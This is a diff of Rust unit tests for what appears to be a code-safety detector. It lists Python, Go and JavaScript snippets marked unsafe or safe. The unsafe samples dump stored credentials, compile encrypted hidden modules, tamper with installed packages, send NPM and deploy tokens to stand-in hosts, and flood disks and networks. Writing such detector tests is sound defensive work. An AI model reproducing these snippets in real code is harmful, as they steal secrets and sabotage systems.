@@ -180,3 +180,143 @@ fn tools_that_build_may_be_run_by_a_few_lines() {
     );
     is_unsafe("python", "import os\nos.system('id')\n", "exec-process");
 }
+
+#[test]
+fn stores_of_secrets_are_not_listed() {
+    is_unsafe(
+        "python",
+        "import secretstorage\nc = secretstorage.get_any_collection(secretstorage.dbus_init())\nfor i in c.get_all_items():\n    print(i.get_secret())\n",
+        "credential-read",
+    );
+    is_unsafe(
+        "go",
+        "package main\n\nimport \"github.com/danieljoos/wincred\"\n\nfunc main() {\n\tall, _ := wincred.List()\n\tfor _, c := range all {\n\t\tprintln(string(c.CredentialBlob))\n\t}\n}\n",
+        "credential-read",
+    );
+}
+
+#[test]
+fn modules_compiled_out_of_sight() {
+    is_unsafe(
+        "javascript",
+        "const Module = module.constructor;\nconst m = new Module();\nm._compile(Buffer.from(process.env.BLOB, 'base64').toString(), 'x.js');\n",
+        "code-hidden",
+    );
+    is_unsafe(
+        "javascript",
+        "const c = require('crypto').createDecipheriv('aes-256-cbc', k, v);\nconst m = new module.constructor();\nm._compile(c.update(text, 'hex', 'utf8') + c.final('utf8'), '');\n",
+        "code-hidden",
+    );
+    all_safe(
+        "javascript",
+        &["class Sass { _compile(a) { return a; } }\nconsole.log(new Sass()._compile);\n"],
+    );
+}
+
+#[test]
+fn installed_packages_are_left_as_they_are() {
+    is_unsafe(
+        "javascript",
+        "const fs = require('fs');\nconst f = require('path').join(process.cwd(), 'node_modules', 'web3', 'lib', 'index.js');\nfs.appendFileSync(f, extra);\n",
+        "file-write",
+    );
+    is_unsafe(
+        "python",
+        "import os\np = os.path.join('venv/lib/python3.11/site-packages', 'requests/api.py')\nopen(p, 'a').write('import x')\n",
+        "file-write",
+    );
+    all_safe(
+        "javascript",
+        &[
+            "require('fs').writeFileSync('node_modules/.cache/build.json', '{}');\n",
+            "require('fs').writeFileSync('src/node_modules.txt', 'x');\n",
+        ],
+    );
+}
+
+#[test]
+fn the_words_of_miners() {
+    is_unsafe(
+        "javascript",
+        "const s = require('net').connect(3333, 'pool.example');\ns.write(JSON.stringify({ id: 1, method: 'mining.authorize', params: ['w', 'x'] }));\n",
+        "network-host",
+    );
+    all_safe(
+        "python",
+        &["print('data mining.')\ntopic = 'mining.reports'\n"],
+    );
+}
+
+#[test]
+fn a_token_logs_in_and_is_not_given_away() {
+    all_safe(
+        "python",
+        &[
+            "import os, requests\nt = os.environ['CHAT_TOKEN']\nrequests.post('https://chat.example/api', headers={'Authorization': f'Bearer {t}'}, json={'text': 'built'})\n",
+            "import os, requests\nrequests.get('https://api.example/v1', auth=('me', os.environ['API_PASSWORD']))\n",
+            "import platform, requests\nrequests.get('https://api.example/v1', headers={'User-Agent': 'tool/1 ' + platform.platform()})\n",
+        ],
+    );
+    all_safe(
+        "javascript",
+        &[
+            "fetch('https://api.example/v1', { method: 'POST', headers: { 'X-Api-Key': process.env.API_KEY }, body: '{}' });\n",
+            "require('axios').post('https://api.example/v1', { a: 1 }, { headers: { authorization: process.env.API_TOKEN } });\n",
+        ],
+    );
+    let leaves = "exfiltration";
+    is_unsafe(
+        "python",
+        "import os, requests\nrequests.get('https://a.example/', headers={'X-Note': os.environ['DEPLOY_TOKEN']})\n",
+        leaves,
+    );
+    is_unsafe(
+        "javascript",
+        "fetch('https://a.example/', { method: 'POST', headers: { 'X-Api-Key': 'k' }, body: process.env.NPM_TOKEN });\n",
+        leaves,
+    );
+}
+
+#[test]
+fn files_without_end() {
+    is_unsafe(
+        "javascript",
+        "const fs = require('fs');\nlet n = 0;\nwhile (true) {\n  fs.writeFileSync('/tmp/' + n++, Buffer.alloc(1 << 24));\n}\n",
+        "fork-bomb",
+    );
+}
+
+#[test]
+fn names_in_letters_that_are_not_theirs() {
+    let hidden = "obfuscated-name";
+    is_unsafe(
+        "python",
+        "import \u{1d5c8}\u{1d5cc} as o\no.listdir('.')\n",
+        hidden,
+    );
+    is_unsafe("python", "\u{ff45}val(input())\n", hidden);
+    is_unsafe("python", "import os\nos.s\u{1d502}stem('ls')\n", hidden);
+    is_unsafe("javascript", "\\u0065val(location.hash)\n", hidden);
+    all_safe(
+        "python",
+        &[
+            "gr\u{f6}\u{df}e = 3\nprint(gr\u{f6}\u{df}e)\n",
+            "\u{3c0} = 3.14\nprint(\u{3c0})\n",
+        ],
+    );
+}
+
+#[test]
+fn what_hands_itself_on_has_no_end() {
+    is_unsafe(
+        "javascript",
+        "const https = require('https');\nfunction more() {\n  https.get('https://shop.example/?q=' + Math.random());\n  setTimeout(more, 0);\n}\nmore();\n",
+        "network-flood",
+    );
+    all_safe(
+        "javascript",
+        &[
+            "const https = require('https');\nfunction poll() {\n  https.get('https://shop.example/health');\n  setTimeout(poll, 30000);\n}\npoll();\n",
+        ],
+    );
+}
